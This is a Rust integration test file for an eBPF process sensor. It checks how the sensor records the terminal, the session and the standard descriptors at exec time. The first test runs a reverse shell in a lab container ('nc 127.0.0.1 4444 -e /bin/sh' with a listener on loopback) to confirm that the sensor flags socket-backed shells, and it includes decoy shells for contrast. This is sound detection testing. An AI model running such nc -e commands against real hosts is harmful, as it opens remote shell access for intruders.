//! Terminal, session and standard fds at exec, with the real eBPF programs and real processes: a shell on
//! a TCP socket in a lab container (busybox `nc -e`), its commands inheriting the socket, a shell on a pipe,
//! a program under a pty (`script` from util-linux), a script without a terminal. Needs root.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "test code")]

mod common;

use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};

use common::capture;
use tracelake_model::{Fd, FdType, Kind, Launch, OwnedBody, OwnedEvent};
use tracelake_sensor::SensorConfig;
use tracelake_testkit::lab::{ContainerSpec, Lab, lab_available};

fn launch(e: &OwnedEvent) -> Launch {
    match e.body {
        OwnedBody::Exec { launch, .. } => launch.expect("the sensor always knows an exec's launch"),
        ref other => panic!("not an exec: {other:?}"),
    }
}

fn args(e: &OwnedEvent) -> Vec<String> {
    e.as_event().args().map(|a| String::from_utf8_lossy(a).into_owned()).collect()
}

fn execs(events: &[OwnedEvent]) -> impl Iterator<Item = &OwnedEvent> {
    events.iter().filter(|e| e.kind == Kind::Exec)
}

/// A TCP socket connected to 127.0.0.1:`port`.
fn is_loopback_tcp(fd: &Fd, port: u16) -> bool {
    fd.fd_type == FdType::Socket
        && fd.family == 2
        && fd.protocol == 6
        && fd.remote.addr[..4] == [127, 0, 0, 1]
        && fd.remote.port == port
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shell_on_a_socket_in_a_container_and_its_decoys() {
    if let Err(why) = lab_available() {
        panic!("this test needs a real container lab: {why}");
    }
    let lab = Lab::start().expect("Lab::start");
    // nc -e: the shell gets the connection as stdin and stdout; the listener types two commands into it,
    // `sleep 0` (a command started by the reverse shell: the socket inherited, no connect of its own) and
    // exit. Then the decoys: a shell reading a pipe, a script with no terminal.
    let script = "echo 'sleep 0; exit' | nc -l -p 4444 & sleep 1; nc 127.0.0.1 4444 -e /bin/sh; \
                  echo x | sh -c 'read a; sleep 0'; sh -c 'sleep 0'; sleep 1";
    let (tx, rx) = std::sync::mpsc::channel();
    let (events, _) = capture(SensorConfig::default(), move || {
        let c = lab.run(&ContainerSpec::new("tl-stdio-revshell", ["sh", "-c", script])).expect("Lab::run");
        // The container's command has run its course once its last sleep is over.
        std::thread::sleep(std::time::Duration::from_secs(4));
        tx.send(c.cgroup_id()).unwrap();
        drop(c);
        drop(lab);
        Vec::new()
    })
    .await;
    let cgroup = rx.recv().unwrap();
    let ours: Vec<&OwnedEvent> = execs(&events).filter(|e| e.subject.cgroup_id == cgroup).collect();
    let shell = ours
        .iter()
        .find(|e| e.subject.comm() == b"sh" && args(e) == ["/bin/sh"])
        .unwrap_or_else(|| panic!("nc -e's shell among {:#?}", ours.iter().map(|e| args(e)).collect::<Vec<_>>()));
    let l = launch(shell);
    assert!(is_loopback_tcp(&l.stdio[0], 4444), "stdin {:?}", l.stdio[0]);
    assert!(is_loopback_tcp(&l.stdio[1], 4444), "stdout {:?}", l.stdio[1]);
    assert_eq!(l.session.tty, 0, "no terminal in a container started without one");
    // The command typed into the reverse shell: its child, the socket inherited.
    let typed = ours
        .iter()
        .find(|e| e.subject.ppid == shell.subject.tgid && args(e) == ["sleep", "0"])
        .expect("the command the listener typed");
    let t = launch(typed);
    assert!(is_loopback_tcp(&t.stdio[0], 4444) && is_loopback_tcp(&t.stdio[1], 4444), "{t:?}");
    // Decoys: a shell reading a pipe, a script with no terminal: no socket anywhere.
    let piped = ours.iter().find(|e| args(e) == ["sh", "-c", "read a; sleep 0"]).expect("the piped shell");
    let p = launch(piped);
    assert_eq!(p.stdio[0].fd_type, FdType::Pipe, "{p:?}");
    let script = ours.iter().find(|e| args(e) == ["sh", "-c", "sleep 0"]).expect("the script");
    let s = launch(script);
    assert_eq!(s.session.tty, 0);
    assert!(s.stdio.iter().all(|fd| fd.fd_type != FdType::Socket), "{s:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_program_under_a_pty_has_its_terminal_and_leads_its_session() {
    let (events, _) = capture(SensorConfig::default(), || {
        // script(1) runs the command on a new pty, in a session of its own that the pty controls.
        let out = Command::new("script")
            .args(["-qc", "readlink /proc/self/fd/0", "/dev/null"])
            .env("SHELL", "/bin/sh")
            .stdin(Stdio::null())
            .output()
            .expect("script (util-linux)");
        assert!(out.status.success(), "{out:?}");
        common::remember(String::from_utf8_lossy(&out.stdout).trim());
        vec![]
    })
    .await;
    let pty = common::remembered();
    let name = pty.strip_prefix("/dev/").unwrap_or_else(|| panic!("the command's stdin: {pty:?}"));
    assert!(name.starts_with("pts/"), "{name}");
    let shell = execs(&events)
        .find(|e| {
            args(e) == ["/bin/sh", "-c", "readlink /proc/self/fd/0"]
                || args(e) == ["sh", "-c", "readlink /proc/self/fd/0"]
        })
        .expect("script's shell");
    let l = launch(shell);
    assert_eq!(l.session.tty().map(|t| t.to_string()).as_deref(), Some(name), "{l:?}");
    assert!(l.session.leader && l.session.sid == shell.subject.tgid, "{l:?}");
    for fd in l.stdio {
        assert_eq!((fd.fd_type, tracelake_model::Tty(fd.rdev).to_string()), (FdType::Tty, name.to_string()));
    }
    // The command the shell ran: the same terminal and session.
    let cmd = execs(&events).find(|e| args(e) == ["readlink", "/proc/self/fd/0"]).expect("readlink");
    let c = launch(cmd);
    assert_eq!((c.session.tty, c.session.sid), (l.session.tty, l.session.sid));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scripts_without_a_terminal_have_none() {
    let (events, pids) = capture(SensorConfig::default(), || {
        let mut leader = Command::new("/bin/sh");
        leader.args(["-c", "exec /bin/true setsid"]).stdin(Stdio::null()).stdout(Stdio::piped());
        // SAFETY: setsid is async-signal-safe.
        unsafe {
            leader.pre_exec(|| if libc::setsid() < 0 { Err(std::io::Error::last_os_error()) } else { Ok(()) });
        }
        let leader = leader.spawn().unwrap();
        let member =
            Command::new("/bin/true").arg("member").stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
        vec![common::wait(leader), common::wait(member)]
    })
    .await;
    let of = |pid: u32, argv1: &str| {
        execs(&events)
            .find(|e| e.subject.tgid == pid && args(e).get(1).map(String::as_str) == Some(argv1))
            .map(launch)
            .unwrap_or_else(|| panic!("exec of {pid} {argv1}"))
    };
    let l = of(pids[0], "setsid");
    assert_eq!((l.session.tty, l.session.sid, l.session.leader), (0, pids[0], true), "{l:?}");
    assert_eq!([l.stdio[0].fd_type, l.stdio[1].fd_type], [FdType::Char, FdType::Pipe], "/dev/null, a pipe");
    let m = of(pids[1], "member");
    // SAFETY: getsid(0) has no preconditions.
    let ours = unsafe { libc::getsid(0) } as u32;
    assert_eq!((m.session.sid, m.session.leader), (ours, false), "{m:?}");
    assert_eq!([m.stdio[0].fd_type, m.stdio[1].fd_type], [FdType::Pipe, FdType::Char]);
}
